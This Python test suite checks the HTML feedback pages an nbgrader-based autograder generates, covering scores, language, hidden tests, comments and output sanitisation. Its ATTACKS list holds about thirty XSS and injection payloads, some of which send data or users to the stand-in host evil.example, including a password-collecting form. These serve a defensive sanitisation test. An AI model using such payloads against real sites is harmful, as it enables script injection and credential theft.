"""The feedback page, made by nbgrader's own GenerateFeedback through its API, as formgrader calls it."""

from __future__ import annotations

import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any, Literal

import nbformat
import pytest
from bs4 import BeautifulSoup
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output
from nbgrader.api import Gradebook
from nbgrader.apps import NbGraderAPI

from autograder.grading.engine import outputs_of
from autograder.grading.markup import LONGEST, clean_html, markdown_html, terminal_html
from autograder.grading.nbcourse import NbCourse, alembic_on_path
from autograder.judge.panel import Panel
from tests.grading.active import active_parts
from tests.grading.small_course import ASSIGNMENT, SmallCourse, graded, source_notebook

Edit = Callable[[Any], None]

PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
PANEL = Panel("wrong", "Not <b>right</b>", (("Called", "square(3)"), ("Came back", "<i>6</i>")))

SCORES = {"square-visible": 2.0, "square-reference": 0.0, "total-parts": 1.5, "why-edge": 0.0}

ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVa\tScRiPt:alert(1))",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    '<div style="background:url(https://evil.example/x)">x</div>',
    '<div style="background:u\\72l(https://evil.example/x);position:fixed;top:0">x</div>',
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<form action="https://evil.example"><input name="password"><button>x</button></form>',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<object data="https://evil.example/x"></object><embed src="https://evil.example/x">',
    "![x](https://evil.example/x.png)",
    '<img src="https://evil.example/x.png">',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](attachment:gone.png)",
    '```html"onmouseover="alert(1)\n</code></pre><img src=x onerror=alert(1)>\n```',
    "```mermaid\n</pre><img src=x onerror=alert(1)>\n```",
    "$x<img src=x onerror=alert(1)>$ and $$y<script>alert(1)</script>$$",
    "\\begin{x}<img src=x onerror=alert(1)>\\end{x}",
    "</title></style></pre></section><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<details ontoggle=alert(1) open><summary>x</summary></details>",
    "\x1b[31m<img src=x onerror=alert(1)>\x1b]8;;https://evil.example\x07x\x1b]8;;\x07",
    "{{ resources }}{% set x = 1 %}{{ ''.__class__ }}",
)


class Class:
    """A small course with one student whose graded notebook is written here, as if it had been run."""

    def __init__(self, root: Path, lang: Literal["ko", "en"]) -> None:
        notebook = source_notebook()
        notebook.cells.append(
            graded("why-edge", 0, "# only told: the edges\n### BEGIN HIDDEN TESTS\nSECRET = 1\n### END HIDDEN TESTS")
        )
        notebook.cells[-1]["id"] = "why-edge"
        self.small = SmallCourse(root, notebook, lang=lang)
        self.root = root

    def page(
        self, student: str = "kim", edit: Edit | None = None, scores: dict[str, float] | None = None, **more: Any
    ) -> str:
        notebook = nbformat.read(self.root / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
        for cell in notebook.cells:
            known = cell.metadata.get("nbgrader", {})
            if known.get("grade") and cell.cell_type == "code":
                cell.outputs = outputs_of(PANEL, 0.0, known["points"] or 1.0)
        notebook.metadata["bitgoeul"] = {"status": "graded", "reason": "", "messages": {}} | more.pop("note", {})
        if edit:
            edit(notebook)
        folder = self.root / "autograded" / student / ASSIGNMENT
        folder.mkdir(parents=True)
        nbformat.write(notebook, folder / f"{ASSIGNMENT}.ipynb")
        with alembic_on_path(), Gradebook(f"sqlite:///{self.root}/gradebook.db?timeout=60") as book:
            book.add_student(student)
            book.add_submission(ASSIGNMENT, student)
            for name, score in (SCORES | (scores or {})).items():
                grade = book.find_grade(name, ASSIGNMENT, ASSIGNMENT, student)
                grade.auto_score, grade.needs_manual_grade = score, False
            for name, text in more.pop("comments", {}).items():
                book.find_comment(name, ASSIGNMENT, ASSIGNMENT, student).manual_comment = text
            written = book.find_submission_notebook(ASSIGNMENT, ASSIGNMENT, student)
            written.late_submission_penalty = more.pop("penalty", 0.0)
            book.db.commit()
        with alembic_on_path():
            course = NbCourse(self.root)
            done = NbGraderAPI(course.coursedir, parent=course.app).generate_feedback(ASSIGNMENT, student)
        assert done["success"], done
        return (self.root / "feedback" / student / ASSIGNMENT / f"{ASSIGNMENT}.html").read_text(encoding="utf-8")


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """A course in each language; each test works on a copy."""
    folders = {lang: tmp_path_factory.mktemp(lang) / "course" for lang in ("ko", "en")}
    for lang, folder in folders.items():
        Class(folder, lang)  # type: ignore[arg-type]
    return folders


def copy_of(folder: Path, to: Path) -> Class:
    shutil.copytree(folder, to)
    config = to / "nbgrader_config.py"
    config.write_text(config.read_text().replace(str(folder), str(to)))
    copied = Class.__new__(Class)
    copied.root = to
    return copied


@pytest.fixture
def korean_class(made: dict[str, Path], tmp_path: Path) -> Class:
    return copy_of(made["ko"], tmp_path / "c")


@pytest.fixture
def english_class(made: dict[str, Path], tmp_path: Path) -> Class:
    return copy_of(made["en"], tmp_path / "c")


def text_of(html: str) -> str:
    return BeautifulSoup(html, "html.parser").body.get_text(" ", strip=True)


def test_the_page_leads_from_each_lost_point_to_its_finding(english_class: Class) -> None:
    html = english_class.page(
        note={"reason": "square-reference: every integer.", "messages": {"total-parts": "The empty sum."}}
    )
    soup = BeautifulSoup(html, "html.parser")
    assert soup.html["lang"] == "en"
    assert "3.5 / 14 points" in text_of(html) and "square-reference: every integer." in text_of(html)
    rows = {r.th.get_text(): r for r in soup.select("table.summary tbody tr")}
    assert list(rows) == ["square", "total", "why"]
    assert "2 / 5" in rows["square"].get_text() and "1.5 / 5" in rows["total"].get_text()
    lost = [a["href"] for a in rows["square"].select("li a")] + [a["href"] for a in rows["total"].select("li a")]
    assert lost == ["#square-reference", "#total-parts"]
    assert "The empty sum." in rows["total"].get_text()
    for link in soup.find_all("a"):
        assert soup.find(id=link["href"][1:]), link
    check = soup.find(id="total-parts")
    assert "1.5 / 5" in check.get_text() and "square(3)" in check.get_text()


def test_the_korean_page_speaks_korean(korean_class: Class) -> None:
    html = korean_class.page(penalty=1.5, note={"status": "failed", "reason": "JSON이 깨졌습니다."})
    words = text_of(html)
    assert '<html lang="ko">' in html
    assert (
        "채점 결과" in words
        and "지각 감점: −1.5점" in words
        and "채점하지 못했습니다. JSON이 깨졌습니다." in words.replace("  ", " ")
    )
    assert "2 / 14점" in words
    assert not {"Feedback", "Exercise", "Comment", "To the top"} & set(words.split())


def test_hidden_tests_are_told_and_not_shown(english_class: Class) -> None:
    html = english_class.page()
    assert "SECRET" not in html and "123457" not in html and "HIDDEN TESTS" not in html
    assert "only told: the edges" in BeautifulSoup(html, "html.parser").find(id="why-edge").get_text()
    assert "expect(square, 3)" in BeautifulSoup(html, "html.parser").find(id="square-visible").get_text()


def test_an_essay_waits_until_a_person_has_read_it_and_then_shows_the_comment(english_class: Class) -> None:
    waiting = BeautifulSoup(english_class.page("a"), "html.parser")
    assert "not graded yet / 4" in waiting.find(id="why").get_text()
    read = BeautifulSoup(
        english_class.page("b", scores={"why": 3.0}, comments={"why": "Say *why* $a<b$."}), "html.parser"
    )
    assert "3 / 4" in read.find(id="why").get_text()
    assert read.find(id="why").aside.em.get_text() == "why" and "$a<b$" in read.find(id="why").aside.get_text()


def test_what_the_judge_found_survives_cleaning() -> None:
    shown = clean_html(PANEL._repr_html_())
    soup, whole = BeautifulSoup(shown, "html.parser"), BeautifulSoup(PANEL._repr_html_(), "html.parser")
    assert soup.get_text() == whole.get_text()
    assert [set(d.get("style", "").split(":")[0::1][:1]) for d in soup.find_all("div")] == [
        set(d.get("style", "").split(":")[0::1][:1]) for d in whole.find_all("div")
    ]
    assert "color:#5c0f0f" in str(soup) and "display:flex" in str(soup)


def test_outputs_are_shown_as_far_as_they_are_harmless(english_class: Class) -> None:
    def edit(notebook: Any) -> None:
        out = [
            new_output("stream", text="\x1b[31mred\x1b[0m <b>\n"),
            new_output("display_data", data={"image/png": PNG, "text/plain": "<Figure>"}),
            new_output("display_data", data={"image/svg+xml": "<svg/>", "text/plain": "a drawing"}),
            new_output("display_data", data={"text/latex": "$\\frac{1}{2}$", "text/plain": "half"}),
            new_output("display_data", data={"text/html": "<script>1</script>", "text/plain": "only a script"}),
            new_output("display_data", data={"text/html": "<table class='dataframe'><tr><td>cell</td></tr></table>"}),
            new_output("error", ename="E", evalue="v", traceback=["\x1b[0;31mValueError\x1b[0m: <x>"]),
            new_output("stream", text="long " * LONGEST),
        ]
        notebook.cells.insert(3, new_code_cell("print('<b>')", outputs=out))

    html = english_class.page(edit=edit)
    words = text_of(html)
    for shown in ("red <b>", "a drawing", "$\\frac{1}{2}$", "only a script", "cell", "ValueError : <x>"):
        assert shown in words
    assert f"data:image/png;base64,{PNG}" in html
    assert len(html) < 5 * LONGEST and "only its beginning is shown" in words
    assert active_parts(html) == []


@pytest.mark.parametrize("lang", ["ko", "en"])
def test_nothing_active_is_left_of_thirty_attacks(lang: str, made: dict[str, Path], tmp_path: Path) -> None:
    everything = "\n\n".join(ATTACKS)

    def edit(notebook: Any) -> None:
        for attack in (*ATTACKS, everything):
            kinds = (
                "text/html",
                "text/markdown",
                "text/latex",
                "text/plain",
                "image/svg+xml",
                "application/javascript",
            )
            outputs = [new_output("display_data", data={kind: attack}) for kind in kinds]
            outputs.append(new_output("display_data", data={"image/png": f'"><script>{attack}'}))
            outputs.append(new_output("stream", text=attack))
            outputs.append(new_output("error", ename=attack, evalue=attack, traceback=[attack]))
            notebook.cells += [
                new_code_cell(attack, outputs=outputs),
                new_markdown_cell(attack),
                nbformat.v4.new_raw_cell(attack),
            ]
        for cell in notebook.cells:
            if cell.metadata.get("nbgrader", {}).get("solution"):
                cell.source = everything

    student = "<img src=x onerror=alert(1)>"
    note = {"status": "failed", "reason": everything, "messages": {"square-reference": everything}}
    html = copy_of(made[lang], tmp_path / "c").page(
        student, edit, note=note, comments={"square": everything, "why": everything}
    )
    assert active_parts(html) == []
    assert student in text_of(html)
    soup = BeautifulSoup(html, "html.parser")
    assert soup.title.get_text().endswith(student)
    assert len(soup.find_all("main")) == 1 and len(soup.select("section.cell")) == 9 + 3 * (len(ATTACKS) + 1)
    assert "{{ resources }}" in html


def test_the_reader_of_this_test_sees_each_kind_of_attack() -> None:
    quiet = "<style></style>"
    blind = [a for a in ATTACKS if a.startswith("<") and active_parts(quiet + a) == []]
    assert blind == []


@pytest.mark.parametrize(
    "mark", ["### BEGIN HIDDEN TESTS", "### END HIDDEN TESTS", "BEGIN HIDDEN TESTS\nBEGIN HIDDEN TESTS"]
)
def test_a_student_who_quotes_nbgraders_marks_still_gets_a_page(english_class: Class, mark: str) -> None:
    def edit(notebook: Any) -> None:
        for cell in notebook.cells:
            if cell.metadata.get("nbgrader", {}).get("solution"):
                cell.source = f"{mark}\nmine"
        notebook.cells.insert(0, new_code_cell(f"{mark}\nalso_mine"))

    words = text_of(english_class.page(edit=edit))
    assert "also_mine" in words and words.count("mine") >= 4


def test_prose_with_formulas_and_comparisons_stays_readable() -> None:
    shown = BeautifulSoup(
        markdown_html("$a<b$, `x<y`, $$\\sum_{i<n} x_i$$ and *so* x < y", tags_as_text=True), "html.parser"
    )
    assert shown.get_text().strip() == "$a<b$, x<y, $$\\sum_{i<n} x_i$$ and so x < y"


@pytest.mark.timeout(20)
@pytest.mark.parametrize(
    "text", ["<div>" * 190_000, "<div></b>" * 110_000, ">" * 60_000, "[" * 19_000, "\\begin{a}" * 2_000, "$$" * 9_000]
)
def test_no_text_keeps_the_page_waiting(text: str) -> None:
    for shown in (clean_html(text), markdown_html(text, tags_as_text=False), terminal_html("\x1b[1mx" * 60_000)):
        assert len(shown) < 40 * LONGEST
